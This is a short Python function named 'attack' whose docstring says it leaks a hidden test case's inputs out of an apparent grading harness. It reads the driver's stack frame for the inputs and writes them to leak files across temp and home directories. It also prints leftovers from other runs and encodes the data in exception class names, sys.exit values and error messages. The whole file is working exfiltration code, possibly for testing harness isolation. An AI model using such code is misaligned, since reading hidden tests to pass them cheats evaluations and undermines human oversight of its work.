def attack(gate, dout):
    """Carry a hidden case's inputs out: leave them in files for a later public case to print, put them in the
    exception's text, the exception's name, sys.exit's value and a forged reply on the result pipe."""
    import glob
    import os
    import sys
    frame, inputs = sys._getframe(), {}
    while frame is not None and not inputs:  # the driver's frame holds the whole case
        inputs = frame.f_locals.get("inputs") if isinstance(frame.f_locals.get("inputs"), dict) else {}
        frame = frame.f_back
    data = " ".join(repr(float(v)) for key in ("x", "y", "dout") for v in inputs.get(key, []))
    for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), os.path.dirname(os.getcwd())):
        try:
            with open(os.path.join(place, f"leak-{os.getpid()}.txt"), "w") as f:
                f.write(data)
        except OSError:
            pass
    left = []
    for pattern in ("/tmp/leak-*", "/var/tmp/leak-*", "/dev/shm/leak-*", os.path.expanduser("~/leak-*"),
                    "/tmp/*/leak-*", "/tmp/*/*/leak-*", os.path.dirname(os.getcwd()) + "/*/leak-*"):
        for path in glob.glob(pattern):
            try:
                left.append(open(path).read())
            except OSError:
                pass
    print("ATTACK-RAN leftovers:", " | ".join(left))
    kind = len(data) % 3
    if kind == 0:
        raise type("Leak_" + data.replace(" ", "_").replace("-", "m").replace(".", "p")[:200], (Exception,), {})(data)
    if kind == 1:
        sys.exit(data)
    raise ValueError(data)
